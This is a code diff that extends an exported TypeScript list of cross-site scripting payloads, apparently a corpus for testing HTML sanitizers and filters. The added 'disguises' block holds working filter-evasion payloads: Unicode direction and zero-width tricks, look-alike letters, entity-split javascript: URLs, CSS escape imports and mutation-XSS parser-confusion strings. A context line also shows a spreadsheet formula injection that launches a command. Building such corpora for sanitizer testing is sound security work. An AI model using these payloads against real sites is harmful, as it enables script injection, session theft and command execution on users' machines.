@@ -185,4 +185,23 @@ const breakouts = [
   `@SUM(1+1)*cmd|' /C calc'!A0`,
 ];
 
-export const payloads: readonly string[] = [...handlers, ...loaders, ...links, ...breakouts];
+/** Payloads that filters and parsers read in different ways: letters that look alike, direction, escapes, mutation. */
+const disguises = [
+  `\u202E<img src=x onerror=${set}>\u202C`,
+  `\u2067<svg onload=${set}>\u2069`,
+  `<im\u200Bg src=x onerror=${set}><img\u00A0src=x onerror=${set}>`,
+  `<ſcript>${set}</ſcript>`,
+  `<\u212Aeygen autofocus onfocus=${set}>`,
+  `<img src=x one\u0301rror=${set} onerror\u2003=${set}>`,
+  `<a href="jav&#x0A;ascript:${set}">x</a><a href="java&Tab;script&NewLine;:${set}">x</a>`,
+  `<div style="background:\\75\\72\\6c(${url});width:expression(${set})">x</div>`,
+  `<style>@\\69mport '${url}';*{background:u\\72l(${url})}</style>`,
+  `<svg></p><style><a id="</style><img src=x onerror=${set}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${set}>`,
+  `<math><mi xlink:href="data:x,<script>${set}</script>"><annotation-xml encoding="text/html"><svg onload=${set}>`,
+  `<noembed><p title="</noembed><img src=x onerror=${set}>">`,
+  `<template><style></template><img src=x onerror=${set}></style>`,
+  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${set}>">`,
+];
+
+export const payloads: readonly string[] = [...handlers, ...loaders, ...links, ...breakouts, ...disguises];
